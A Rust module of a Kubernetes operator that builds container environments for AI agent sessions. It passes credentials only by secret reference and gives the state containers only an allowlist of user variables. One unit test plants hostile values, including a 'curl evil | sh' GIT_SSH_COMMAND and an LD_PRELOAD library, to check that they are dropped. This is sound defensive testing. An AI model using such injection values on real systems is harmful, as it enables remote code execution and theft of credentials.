//! The runner container's environment (SPEC §2.4, §5.1, §5.2, §5.5) and that of the state
//! containers (§5.4).
//!
//! Merge rules, lowest first: the runtime's extra env (never overriding anything), the
//! operator's plain defaults, then `spec.environmentVariables` (which may add variables and
//! override those plain values), then what the operator always decides: the reserved names of
//! `agentic_crds::RESERVED_ENV_NAMES` (admission rejects them in a spec), the protected ones
//! ([`PROTECTED`]) and every secret-backed variable — a user's value for any of those is
//! dropped. Credentials are only ever references (`secretKeyRef`, `envFrom`), never values.
//! The result is sorted by name: the same inputs always yield the same list.

use std::collections::BTreeMap;

use agentic_crds::env as names;
use agentic_crds::{AgenticSession, keys};
use k8s_openapi::api::core::v1::{
    EnvFromSource, EnvVar, EnvVarSource, SecretEnvSource, SecretKeySelector,
};
use kube::ResourceExt;

use super::platform::{PlatformView, S3Keys, S3Settings};
use super::shape::{RUNNER_STATE_DIR_ENV, RunnerShape};
use crate::config::VertexSettings;

/// Operator-set variables a user may not override (dropped from `spec.environmentVariables`
/// silently; unlike the reserved names, admission accepts them, as the original did).
pub const PROTECTED: &[&str] = &["AGUI_PORT", "USE_AGUI"];

const STOP_ON_RUN_FINISHED: &str = "STOP_ON_RUN_FINISHED";
/// Runner env names the Langfuse Secret provides (key = name).
const LANGFUSE_KEYS: [&str; 4] = [
    "LANGFUSE_ENABLED",
    "LANGFUSE_HOST",
    "LANGFUSE_PUBLIC_KEY",
    "LANGFUSE_SECRET_KEY",
];
/// Runner env names the MLflow Secret provides (key = name).
const MLFLOW_KEYS: [&str; 6] = [
    "MLFLOW_TRACING_ENABLED",
    "MLFLOW_TRACKING_URI",
    "MLFLOW_TRACKING_AUTH",
    "MLFLOW_EXPERIMENT_NAME",
    "MLFLOW_WORKSPACE",
    "OBSERVABILITY_BACKENDS",
];
/// Runner env names the Google OAuth Secret provides (key = name).
const GOOGLE_KEYS: [&str; 2] = ["GOOGLE_OAUTH_CLIENT_ID", "GOOGLE_OAUTH_CLIENT_SECRET"];

/// What the environment is computed from.
pub struct RunnerEnvInputs<'a> {
    /// The session being run.
    pub session: &'a AgenticSession,
    /// `BACKEND_API_URL`.
    pub backend_api_url: &'a str,
    /// Whether an earlier run of this session actually started (`IS_RESUME`).
    pub is_resume: bool,
    /// The runner's shape (port, state directory, the runtime's env).
    pub shape: &'a RunnerShape,
    /// What the namespace offers the runner.
    pub platform: &'a PlatformView,
    /// Vertex mode's settings, when on.
    pub vertex: Option<&'a VertexSettings>,
    /// `LLM_MODEL_VERTEX_ID`, when the model manifest knows the session's model.
    pub vertex_model_id: Option<&'a str>,
    /// The namespace's ProjectSettings `spec.mcpServers` (`PROJECT_MCP_SERVERS`).
    pub project_mcp_servers: Option<&'a serde_json::Value>,
    /// `MCP_CONFIG_FILE`, when the operator has one.
    pub mcp_config_file: Option<&'a str>,
    /// The backend's public URL (`GOOGLE_OAUTH_REDIRECT_URI`).
    pub backend_public_url: Option<&'a str>,
}

/// A container's environment: variables and whole Secrets.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ContainerEnv {
    /// `env`, sorted by name.
    pub env: Vec<EnvVar>,
    /// `envFrom`.
    pub env_from: Vec<EnvFromSource>,
}

/// A `secretKeyRef` variable.
fn secret_ref(name: &str, secret: &str, key: &str, optional: bool) -> EnvVar {
    EnvVar {
        name: name.into(),
        value: None,
        value_from: Some(EnvVarSource {
            secret_key_ref: Some(SecretKeySelector {
                name: secret.into(),
                key: key.into(),
                optional: Some(optional),
            }),
            ..Default::default()
        }),
    }
}

fn plain(name: &str, value: String) -> EnvVar {
    EnvVar {
        name: name.into(),
        value: Some(value),
        value_from: None,
    }
}

/// The user variables the state scripts (`hydrate.sh`, `sync.sh`) read: the only ones of
/// `spec.environmentVariables` the state containers get. The others (`GIT_*`, `BASH_ENV`,
/// `LD_*`, `*_PROXY`, `AWS_*`, ...) could turn a script holding the shared S3 keys and the
/// runner's token against them.
pub const STATE_SCRIPT_VARIABLES: [&str; 4] = [
    "RUNNER_STATE_DIR",
    "SYNC_INTERVAL",
    "MAX_SYNC_SIZE",
    "REPO_BACKUP_INTERVAL",
];

/// The session's user variables that may be used at all (valid names, not reserved).
fn user_env(session: &AgenticSession) -> impl Iterator<Item = (&String, &String)> {
    session
        .spec
        .environment_variables
        .iter()
        .filter(|(k, _)| names::is_valid_env_name(k) && !names::is_reserved_env_name(k))
}

/// Sorts plain values and references into one list; a reference replaces a plain value of the
/// same name.
fn assemble(plain_values: BTreeMap<String, String>, refs: Vec<EnvVar>) -> Vec<EnvVar> {
    let mut by_name: BTreeMap<String, EnvVar> = plain_values
        .into_iter()
        .map(|(name, value)| (name.clone(), plain(&name, value)))
        .collect();
    for var in refs {
        by_name.insert(var.name.clone(), var);
    }
    by_name.into_values().collect()
}

/// The runner container's environment.
pub fn runner_env(inputs: &RunnerEnvInputs<'_>) -> ContainerEnv {
    let session = inputs.session;
    let spec = &session.spec;
    let name = session.name_any();
    let namespace = session.namespace().unwrap_or_default();
    let platform = inputs.platform;

    // Secret-backed variables: always references, never overridable.
    let token_secret = agentic_crds::names::token_secret_name(&name);
    let mut refs = vec![secret_ref(
        names::AGUI_TOKEN,
        &token_secret,
        keys::TOKEN_SECRET_AGUI_TOKEN_KEY,
        false,
    )];
    if platform.google_source {
        refs.extend(
            GOOGLE_KEYS
                .iter()
                .map(|k| secret_ref(k, keys::GOOGLE_OAUTH_SECRET, k, true)),
        );
    }
    if platform.langfuse_source {
        refs.extend(
            LANGFUSE_KEYS
                .iter()
                .map(|k| secret_ref(k, keys::LANGFUSE_SECRET, k, true)),
        );
    }
    if platform.mlflow_source.is_some() {
        refs.extend(
            MLFLOW_KEYS
                .iter()
                .map(|k| secret_ref(k, keys::MLFLOW_SECRET, k, true)),
        );
    }
    let overridable = |key: &str| {
        !names::is_reserved_env_name(key)
            && !PROTECTED.contains(&key)
            && !refs.iter().any(|r| r.name == key)
    };

    // Lowest: the runtime's extra env.
    let mut values: BTreeMap<String, String> = inputs
        .shape
        .env
        .iter()
        .filter(|(k, _)| names::is_valid_env_name(k) && overridable(k))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    // Then the operator's plain defaults.
    let mut defaults: Vec<(&str, String)> = vec![
        (
            STOP_ON_RUN_FINISHED,
            spec.stop_on_run_finished.unwrap_or(false).to_string(),
        ),
        ("ARTIFACTS_DIR", "artifacts".into()),
        (
            "GOOGLE_MCP_CREDENTIALS_DIR",
            format!(
                "{}/.google_workspace_mcp/credentials",
                keys::WORKSPACE_MOUNT_PATH
            ),
        ),
        (RUNNER_STATE_DIR_ENV, inputs.shape.state_dir.clone()),
    ];
    if let Some(url) = inputs.backend_public_url {
        defaults.push((
            "GOOGLE_OAUTH_REDIRECT_URI",
            format!("{}/oauth2callback", url.trim_end_matches('/')),
        ));
    }
    if let Some(file) = inputs.mcp_config_file {
        defaults.push(("MCP_CONFIG_FILE", file.to_string()));
    }
    if let Some(servers) = inputs.project_mcp_servers {
        defaults.push(("PROJECT_MCP_SERVERS", servers.to_string()));
    }
    if let Some(id) = inputs.vertex_model_id {
        defaults.push(("LLM_MODEL_VERTEX_ID", id.to_string()));
    }
    if let Some(vertex) = inputs.vertex {
        defaults.extend([
            ("CLOUD_ML_REGION", vertex.region.clone()),
            ("ANTHROPIC_VERTEX_PROJECT_ID", vertex.project_id.clone()),
            ("GOOGLE_APPLICATION_CREDENTIALS", vertex.credentials.clone()),
            ("GCE_METADATA_HOST", "metadata.invalid".into()),
            ("GCE_METADATA_TIMEOUT", "1".into()),
        ]);
    }
    for (key, value) in defaults {
        values.insert(key.to_string(), value);
    }
    // Then the user's, over plain values only.
    for (key, value) in user_env(session) {
        if overridable(key) {
            values.insert(key.clone(), value.clone());
        }
    }
    // What the operator always decides.
    let user = spec.user_context.clone().unwrap_or_default();
    let json = |value: serde_json::Result<String>| value.unwrap_or_else(|_| "null".into());
    let parent = session
        .annotations()
        .get(keys::PARENT_SESSION_ID_ANNOTATION)
        .cloned()
        .or_else(|| {
            spec.environment_variables
                .get(names::PARENT_SESSION_ID)
                .cloned()
        })
        .unwrap_or_default();
    let vertex_flag = if inputs.vertex.is_some() { "1" } else { "0" };
    let workflow = spec.active_workflow.as_ref();
    let decided: [(&str, String); 24] = [
        (names::AGENTIC_SESSION_NAME, name.clone()),
        (names::AGENTIC_SESSION_NAMESPACE, namespace.clone()),
        (names::SESSION_ID, name.clone()),
        (names::PROJECT_NAME, namespace),
        (names::WORKSPACE_PATH, keys::WORKSPACE_MOUNT_PATH.into()),
        (
            names::INITIAL_PROMPT,
            spec.initial_prompt.clone().unwrap_or_default(),
        ),
        (names::LLM_MODEL, spec.llm_settings.model.clone()),
        (
            names::LLM_TEMPERATURE,
            spec.llm_settings.temperature.to_string(),
        ),
        (
            names::LLM_MAX_TOKENS,
            spec.llm_settings.max_tokens.to_string(),
        ),
        (names::TIMEOUT, spec.timeout.to_string()),
        (
            names::REPOS_JSON,
            json(serde_json::to_string(&spec.unique_repos())),
        ),
        (names::USER_ID, user.user_id.unwrap_or_default()),
        (names::USER_NAME, user.display_name.unwrap_or_default()),
        (names::IS_RESUME, inputs.is_resume.to_string()),
        (names::PARENT_SESSION_ID, parent),
        (
            names::CUSTOM_MCP_SERVERS,
            json(serde_json::to_string(
                &spec.mcp_servers.clone().unwrap_or_default(),
            )),
        ),
        (names::BACKEND_API_URL, inputs.backend_api_url.to_string()),
        (
            names::ACTIVE_WORKFLOW_GIT_URL,
            workflow.and_then(|w| w.git_url.clone()).unwrap_or_default(),
        ),
        (
            names::ACTIVE_WORKFLOW_BRANCH,
            workflow.map(|w| w.branch.clone()).unwrap_or_default(),
        ),
        (
            names::ACTIVE_WORKFLOW_PATH,
            workflow.and_then(|w| w.path.clone()).unwrap_or_default(),
        ),
        (names::USE_VERTEX, vertex_flag.into()),
        (names::CLAUDE_CODE_USE_VERTEX, vertex_flag.into()),
        ("AGUI_PORT", inputs.shape.port.to_string()),
        ("USE_AGUI", "true".into()),
    ];
    for (key, value) in decided {
        values.insert(key.to_string(), value);
    }

    // Whole Secrets: the project's integrations, then the model credentials (Vertex off).
    let mut env_from = Vec::new();
    if platform.integrations.is_some() {
        env_from.push(secret_source(keys::INTEGRATIONS_SECRET));
    }
    if inputs.vertex.is_none() {
        env_from.push(secret_source(keys::RUNNER_SECRETS));
    }
    ContainerEnv {
        env: assemble(values, refs),
        env_from,
    }
}

fn secret_source(name: &str) -> EnvFromSource {
    EnvFromSource {
        secret_ref: Some(SecretEnvSource {
            name: name.into(),
            optional: Some(false),
        }),
        ..Default::default()
    }
}

/// Which state container an environment is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StateContainer {
    /// `init-hydrate`: prepares the workspace, restores state, clones repositories.
    Hydrate,
    /// `state-sync`: keeps the state in S3.
    Sync,
}

/// The environment of a state container (the names `hydrate.sh` and `sync.sh` read).
pub fn state_env(
    which: StateContainer,
    inputs: &RunnerEnvInputs<'_>,
    s3: &S3Settings,
) -> ContainerEnv {
    let session = inputs.session;
    let name = session.name_any();
    let namespace = session.namespace().unwrap_or_default();
    let mut values: BTreeMap<String, String> = BTreeMap::new();
    let mut refs = Vec::new();
    let configured = s3.keys.is_some();
    values.insert("SESSION_NAME".into(), name.clone());
    values.insert("NAMESPACE".into(), namespace.clone());
    values.insert(
        "S3_ENDPOINT".into(),
        if configured {
            s3.endpoint.clone()
        } else {
            String::new()
        },
    );
    values.insert(
        "S3_BUCKET".into(),
        if configured {
            s3.bucket.clone()
        } else {
            String::new()
        },
    );
    match s3.keys {
        Some(S3Keys::Project) => refs.extend([
            secret_ref(
                "AWS_ACCESS_KEY_ID",
                keys::INTEGRATIONS_SECRET,
                "S3_ACCESS_KEY",
                false,
            ),
            secret_ref(
                "AWS_SECRET_ACCESS_KEY",
                keys::INTEGRATIONS_SECRET,
                "S3_SECRET_KEY",
                false,
            ),
        ]),
        Some(S3Keys::Shared) => refs.extend([
            secret_ref(
                "AWS_ACCESS_KEY_ID",
                keys::MINIO_CREDENTIALS_SECRET,
                "access-key",
                false,
            ),
            secret_ref(
                "AWS_SECRET_ACCESS_KEY",
                keys::MINIO_CREDENTIALS_SECRET,
                "secret-key",
                false,
            ),
        ]),
        // Not configured: the scripts see empty keys, prepare the workspace and skip S3.
        None => {
            values.insert("AWS_ACCESS_KEY_ID".into(), String::new());
            values.insert("AWS_SECRET_ACCESS_KEY".into(), String::new());
        }
    }
    values.insert(RUNNER_STATE_DIR_ENV.into(), inputs.shape.state_dir.clone());
    match which {
        StateContainer::Sync => {
            values.insert("SYNC_INTERVAL".into(), "60".into());
            values.insert("MAX_SYNC_SIZE".into(), "1073741824".into());
        }
        StateContainer::Hydrate => {
            let spec = &session.spec;
            let workflow = spec.active_workflow.as_ref();
            values.insert(
                names::BACKEND_API_URL.into(),
                inputs.backend_api_url.to_string(),
            );
            values.insert(names::PROJECT_NAME.into(), namespace);
            values.insert(
                names::REPOS_JSON.into(),
                serde_json::to_string(&spec.unique_repos()).unwrap_or_else(|_| "[]".into()),
            );
            values.insert(
                names::ACTIVE_WORKFLOW_GIT_URL.into(),
                workflow.and_then(|w| w.git_url.clone()).unwrap_or_default(),
            );
            values.insert(
                names::ACTIVE_WORKFLOW_BRANCH.into(),
                workflow.map(|w| w.branch.clone()).unwrap_or_default(),
            );
            values.insert(
                names::ACTIVE_WORKFLOW_PATH.into(),
                workflow.and_then(|w| w.path.clone()).unwrap_or_default(),
            );
            refs.push(secret_ref(
                "BOT_TOKEN",
                &agentic_crds::names::token_secret_name(&name),
                keys::TOKEN_SECRET_K8S_TOKEN_KEY,
                false,
            ));
        }
    }
    // Then, never overriding, the user's variables the scripts read (nothing else of the
    // user's reaches bash and git holding shared keys and BOT_TOKEN, SPEC §7.5), and for the
    // sidecar the runtime's.
    let mut extra: Vec<(&String, &String)> = user_env(session)
        .filter(|(name, _)| STATE_SCRIPT_VARIABLES.contains(&name.as_str()))
        .collect();
    if which == StateContainer::Sync {
        extra.extend(inputs.shape.env.iter());
    }
    for (key, value) in extra {
        let taken = values.contains_key(key) || refs.iter().any(|r| &r.name == key);
        if !taken && names::is_valid_env_name(key) {
            values.insert(key.clone(), value.clone());
        }
    }
    ContainerEnv {
        env: assemble(values, refs),
        env_from: Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::handlers::session::fixtures::{session, shape};
    use crate::handlers::session::platform::ProjectStorage;

    fn inputs<'a>(
        session: &'a AgenticSession,
        shape: &'a RunnerShape,
        platform: &'a PlatformView,
    ) -> RunnerEnvInputs<'a> {
        RunnerEnvInputs {
            session,
            backend_api_url: "http://backend-service.ops.svc.cluster.local:8080/api",
            is_resume: false,
            shape,
            platform,
            vertex: None,
            vertex_model_id: None,
            project_mcp_servers: None,
            mcp_config_file: None,
            backend_public_url: None,
        }
    }

    fn env_of(session: &AgenticSession, platform: &PlatformView) -> ContainerEnv {
        runner_env(&inputs(session, &shape(), platform))
    }

    fn value<'a>(env: &'a [EnvVar], name: &str) -> Option<&'a str> {
        env.iter()
            .find(|e| e.name == name)
            .and_then(|e| e.value.as_deref())
    }

    fn reference<'a>(env: &'a [EnvVar], name: &str) -> Option<&'a SecretKeySelector> {
        env.iter()
            .find(|e| e.name == name)?
            .value_from
            .as_ref()?
            .secret_key_ref
            .as_ref()
    }

    #[test]
    fn every_reserved_variable_is_set() {
        let env = env_of(&session("demo"), &PlatformView::default()).env;
        for name in agentic_crds::RESERVED_ENV_NAMES.iter().copied() {
            assert!(env.iter().any(|e| e.name == name), "{name} missing");
        }
        assert_eq!(value(&env, "WORKSPACE_PATH"), Some("/workspace"));
        assert_eq!(value(&env, "PROJECT_NAME"), Some("team"));
        assert_eq!(value(&env, "LLM_MODEL"), Some("claude-sonnet-4-6"));
        assert_eq!(value(&env, "TIMEOUT"), Some("300"));
        assert_eq!(value(&env, "IS_RESUME"), Some("false"));
        assert_eq!(value(&env, "AGUI_PORT"), Some("8001"));
        assert_eq!(value(&env, "USE_AGUI"), Some("true"));
        assert_eq!(value(&env, "USE_VERTEX"), Some("0"));
        assert_eq!(value(&env, "CLAUDE_CODE_USE_VERTEX"), Some("0"));
        assert_eq!(value(&env, "ARTIFACTS_DIR"), Some("artifacts"));
        assert_eq!(
            value(&env, "GOOGLE_MCP_CREDENTIALS_DIR"),
            Some("/workspace/.google_workspace_mcp/credentials")
        );
    }

    #[test]
    fn model_credentials_come_whole_from_their_secrets() {
        let platform = PlatformView {
            runner_secret: true,
            integrations: Some(ProjectStorage::default()),
            ..Default::default()
        };
        let env = env_of(&session("demo"), &platform);
        let from: Vec<_> = env
            .env_from
            .iter()
            .filter_map(|f| f.secret_ref.as_ref().map(|s| s.name.as_str()))
            .collect();
        assert_eq!(
            from,
            ["ambient-non-vertex-integrations", "ambient-runner-secrets"]
        );
    }

    #[test]
    fn agui_token_comes_from_the_secret_and_cannot_be_overridden() {
        let mut s = session("demo");
        s.spec
            .environment_variables
            .insert("AGUI_TOKEN".into(), "stolen".into());
        let env = env_of(&s, &PlatformView::default()).env;
        let agui: Vec<_> = env.iter().filter(|e| e.name == "AGUI_TOKEN").collect();
        assert_eq!(agui.len(), 1);
        assert!(agui[0].value.is_none());
        let secret = reference(&env, "AGUI_TOKEN").unwrap();
        assert_eq!(secret.name, "ambient-runner-token-demo");
        assert_eq!(secret.key, "agui-token");
    }

    #[test]
    fn user_variables_add_and_override_plain_defaults_but_never_reserved_protected_or_secret_ones()
    {
        let mut s = session("demo");
        let vars = &mut s.spec.environment_variables;
        vars.insert("EXTRA".into(), "1".into());
        vars.insert("STOP_ON_RUN_FINISHED".into(), "true".into());
        vars.insert("ARTIFACTS_DIR".into(), "out".into());
        vars.insert("LLM_MODEL".into(), "other".into());
        vars.insert("AGUI_PORT".into(), "1".into());
        vars.insert("LANGFUSE_SECRET_KEY".into(), "plain".into());
        vars.insert("bad-name".into(), "x".into());
        let platform = PlatformView {
            langfuse_source: true,
            ..Default::default()
        };
        let env = env_of(&s, &platform).env;
        assert_eq!(value(&env, "EXTRA"), Some("1"));
        assert_eq!(value(&env, "STOP_ON_RUN_FINISHED"), Some("true"));
        assert_eq!(value(&env, "ARTIFACTS_DIR"), Some("out"));
        assert_eq!(value(&env, "LLM_MODEL"), Some("claude-sonnet-4-6"));
        assert_eq!(value(&env, "AGUI_PORT"), Some("8001"));
        assert_eq!(
            reference(&env, "LANGFUSE_SECRET_KEY").map(|r| r.name.as_str()),
            Some("ambient-admin-langfuse-secret")
        );
        assert!(!env.iter().any(|e| e.name == "bad-name"));
    }

    #[test]
    fn the_runtimes_env_never_overrides_anything() {
        let mut shape = shape();
        shape.env = [
            ("RUNNER_TYPE".to_string(), "gemini-cli".to_string()),
            ("ARTIFACTS_DIR".to_string(), "runtime".to_string()),
            ("SESSION_ID".to_string(), "runtime".to_string()),
        ]
        .into();
        let s = session("demo");
        let platform = PlatformView::default();
        let env = runner_env(&inputs(&s, &shape, &platform)).env;
        assert_eq!(value(&env, "RUNNER_TYPE"), Some("gemini-cli"));
        assert_eq!(value(&env, "ARTIFACTS_DIR"), Some("artifacts"));
        assert_eq!(value(&env, "SESSION_ID"), Some("demo"));
    }

    #[test]
    fn vertex_mode_sets_its_variables_and_drops_the_model_secret() {
        let s = session("demo");
        let shape = shape();
        let platform = PlatformView::default();
        let vertex = VertexSettings {
            project_id: "p".into(),
            region: "us-east5".into(),
            credentials: "/app/vertex/key.json".into(),
        };
        let mut inputs = inputs(&s, &shape, &platform);
        inputs.vertex = Some(&vertex);
        inputs.vertex_model_id = Some("claude-sonnet-4-6@default");
        let env = runner_env(&inputs);
        for (name, expected) in [
            ("USE_VERTEX", "1"),
            ("CLAUDE_CODE_USE_VERTEX", "1"),
            ("CLOUD_ML_REGION", "us-east5"),
            ("ANTHROPIC_VERTEX_PROJECT_ID", "p"),
            ("GOOGLE_APPLICATION_CREDENTIALS", "/app/vertex/key.json"),
            ("GCE_METADATA_HOST", "metadata.invalid"),
            ("GCE_METADATA_TIMEOUT", "1"),
            ("LLM_MODEL_VERTEX_ID", "claude-sonnet-4-6@default"),
        ] {
            assert_eq!(value(&env.env, name), Some(expected), "{name}");
        }
        assert!(
            env.env_from.is_empty(),
            "no ambient-runner-secrets in Vertex mode"
        );
    }

    #[test]
    fn the_oauth_client_and_observability_settings_are_optional_references() {
        let s = session("demo");
        let shape = shape();
        let platform = PlatformView {
            google_source: true,
            langfuse_source: true,
            mlflow_source: Some(false),
            ..Default::default()
        };
        let mut inputs = inputs(&s, &shape, &platform);
        inputs.backend_public_url = Some("https://ambient.example.com/");
        let env = runner_env(&inputs).env;
        for (name, secret) in [
            ("GOOGLE_OAUTH_CLIENT_ID", "google-workflow-app-secret"),
            ("GOOGLE_OAUTH_CLIENT_SECRET", "google-workflow-app-secret"),
            ("LANGFUSE_HOST", "ambient-admin-langfuse-secret"),
            (
                "MLFLOW_TRACKING_URI",
                "ambient-admin-mlflow-observability-secret",
            ),
            (
                "OBSERVABILITY_BACKENDS",
                "ambient-admin-mlflow-observability-secret",
            ),
        ] {
            let r = reference(&env, name).unwrap_or_else(|| panic!("{name} is a reference"));
            assert_eq!(
                (r.name.as_str(), r.optional),
                (secret, Some(true)),
                "{name}"
            );
        }
        assert_eq!(
            value(&env, "GOOGLE_OAUTH_REDIRECT_URI"),
            Some("https://ambient.example.com/oauth2callback")
        );
    }

    #[test]
    fn parent_session_comes_from_its_annotation_else_the_users_env() {
        let mut s = session("demo");
        s.spec
            .environment_variables
            .insert("PARENT_SESSION_ID".into(), "from-env".into());
        assert_eq!(
            value(
                &env_of(&s, &PlatformView::default()).env,
                "PARENT_SESSION_ID"
            ),
            Some("from-env")
        );
        s.metadata.annotations = Some(
            [(
                "vteam.ambient-code/parent-session-id".to_string(),
                "parent-1".to_string(),
            )]
            .into(),
        );
        assert_eq!(
            value(
                &env_of(&s, &PlatformView::default()).env,
                "PARENT_SESSION_ID"
            ),
            Some("parent-1")
        );
    }

    #[test]
    fn environment_is_sorted_and_unique() {
        let mut s = session("demo");
        s.spec
            .environment_variables
            .insert("AAA_FIRST".into(), "x".into());
        let env = env_of(&s, &PlatformView::default()).env;
        let names: Vec<_> = env.iter().map(|e| e.name.as_str()).collect();
        let mut sorted = names.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(names, sorted);
    }

    #[test]
    fn state_containers_get_only_the_user_variables_their_scripts_read() {
        let mut s = session("demo");
        for (name, value) in [
            ("REPO_BACKUP_INTERVAL", "10"),
            ("GIT_SSH_COMMAND", "curl evil | sh"),
            ("BASH_ENV", "/tmp/x"),
            ("LD_PRELOAD", "/tmp/x.so"),
            ("HTTPS_PROXY", "http://evil"),
            ("MY_SETTING", "x"),
        ] {
            s.spec
                .environment_variables
                .insert(name.into(), value.into());
        }
        let shape = shape();
        let platform = PlatformView::default();
        let inputs = inputs(&s, &shape, &platform);
        let s3 = PlatformView::default().s3("https://s3.amazonaws.com", "b");
        for which in [StateContainer::Hydrate, StateContainer::Sync] {
            let env = state_env(which, &inputs, &s3).env;
            assert_eq!(value(&env, "REPO_BACKUP_INTERVAL"), Some("10"));
            for refused in [
                "GIT_SSH_COMMAND",
                "BASH_ENV",
                "LD_PRELOAD",
                "HTTPS_PROXY",
                "MY_SETTING",
            ] {
                assert!(env.iter().all(|e| e.name != refused), "{refused}");
            }
        }
        let runner = env_of(&s, &PlatformView::default()).env;
        assert_eq!(
            value(&runner, "MY_SETTING"),
            Some("x"),
            "the runner gets them"
        );
    }

    #[test]
    fn state_containers_get_the_names_their_scripts_read_and_keys_by_reference() {
        let s = session("demo");
        let shape = shape();
        let platform = PlatformView::default();
        let inputs = inputs(&s, &shape, &platform);
        let s3 = S3Settings {
            endpoint: "https://s3.amazonaws.com".into(),
            bucket: "ambient-sessions".into(),
            keys: Some(S3Keys::Shared),
        };
        let sync = state_env(StateContainer::Sync, &inputs, &s3).env;
        assert_eq!(value(&sync, "SESSION_NAME"), Some("demo"));
        assert_eq!(value(&sync, "NAMESPACE"), Some("team"));
        assert_eq!(value(&sync, "S3_BUCKET"), Some("ambient-sessions"));
        assert_eq!(value(&sync, "SYNC_INTERVAL"), Some("60"));
        assert_eq!(value(&sync, "MAX_SYNC_SIZE"), Some("1073741824"));
        assert_eq!(value(&sync, "RUNNER_STATE_DIR"), Some(".claude"));
        let key = reference(&sync, "AWS_SECRET_ACCESS_KEY").expect("a reference");
        assert_eq!(
            (key.name.as_str(), key.key.as_str()),
            ("minio-credentials", "secret-key")
        );
        let hydrate = state_env(StateContainer::Hydrate, &inputs, &s3).env;
        assert_eq!(
            reference(&hydrate, "BOT_TOKEN").map(|r| r.key.as_str()),
            Some("k8s-token")
        );
        assert!(value(&hydrate, "REPOS_JSON").is_some());
        let none = S3Settings { keys: None, ..s3 };
        let unconfigured = state_env(StateContainer::Sync, &inputs, &none).env;
        assert_eq!(value(&unconfigured, "AWS_ACCESS_KEY_ID"), Some(""));
        assert_eq!(value(&unconfigured, "S3_ENDPOINT"), Some(""));
    }
}
